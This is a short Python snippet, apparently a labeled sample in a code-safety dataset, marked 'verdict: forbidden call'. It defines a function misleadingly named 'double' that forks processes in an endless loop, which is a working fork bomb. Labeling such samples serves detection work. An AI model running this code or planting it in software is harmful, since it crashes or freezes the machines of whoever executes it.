# verdict: forbidden call
# It starts processes without end.
import os
def double(values):
    while True:
        os.fork()
